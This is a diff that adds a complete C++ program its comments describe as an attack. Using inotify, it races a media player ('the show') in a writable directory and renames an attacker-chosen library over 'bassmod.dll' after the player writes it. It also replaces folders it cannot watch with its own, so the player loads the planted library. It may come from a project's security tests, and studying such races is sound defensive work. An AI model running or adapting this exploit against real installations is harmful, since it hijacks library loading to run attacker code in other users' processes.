@@ -1,0 +1,62 @@
+// An attack on the player file in a directory that the attacker may write to:
+//
+//   racer DIR LIBRARY
+//
+// Watches DIR (inotify) and puts LIBRARY in the show's way as soon as it can: renamed over
+// a "bassmod.dll" once the show has written to it (earlier, the show would find its own
+// file unlinked and refuse it). A new folder that the racer may watch (one of its own user)
+// is watched the same way; one that it may not is renamed away and replaced by a folder
+// of the racer's with LIBRARY as its "bassmod.dll". Runs until killed.
+#include <cstdio>
+#include <map>
+#include <string>
+#include <sys/inotify.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+int main(int argc, char **argv) {
+    if (argc != 3)
+        return 2;
+    // A copy of our own: the links below need a file we own (protected_hardlinks).
+    std::string dir = argv[1], spare = dir + "/.racer-spare", own = dir + "/.racer-library";
+    FILE *in = fopen(argv[2], "rb"), *out = fopen(own.c_str(), "wb");
+    if (!in || !out)
+        return 1;
+    char block[4096];
+    for (size_t n; (n = fread(block, 1, sizeof block, in)) > 0;)
+        fwrite(block, 1, n, out);
+    fclose(in);
+    fclose(out);
+    constexpr uint32_t EVENTS = IN_CREATE | IN_MODIFY;
+    int watch = inotify_init1(IN_CLOEXEC);
+    std::map<int, std::string> watched; // watch descriptor -> its directory
+    int top = inotify_add_watch(watch, argv[1], EVENTS);
+    if (watch < 0 || top < 0)
+        return 1;
+    watched[top] = dir;
+    fprintf(stderr, "racer: watching %s\n", argv[1]);
+    alignas(inotify_event) char events[4096];
+    for (;;) {
+        // Prepared before the event, so that one rename is all that the race needs.
+        link(own.c_str(), spare.c_str());
+        ssize_t length = read(watch, events, sizeof events);
+        for (char *at = events; length > 0 && at < events + length;) {
+            auto *event = reinterpret_cast<inotify_event *>(at);
+            at += sizeof(inotify_event) + event->len;
+            std::string name = event->len ? event->name : "";
+            std::string path = watched[event->wd] + "/" + name;
+            if (name == "bassmod.dll" && (event->mask & IN_MODIFY)) {
+                rename(spare.c_str(), path.c_str());
+            } else if ((event->mask & IN_ISDIR) && event->wd == top &&
+                       name.rfind(".racer", 0) != 0) {
+                int inner = inotify_add_watch(watch, path.c_str(), EVENTS);
+                if (inner >= 0)
+                    watched[inner] = path;
+                else if (rename(path.c_str(), (dir + "/.racer-moved-" + name).c_str()) == 0 &&
+                         mkdir(path.c_str(), 0755) == 0)
+                    rename(spare.c_str(), (path + "/bassmod.dll").c_str());
+            }
+            link(own.c_str(), spare.c_str());
+        }
+    }
+}
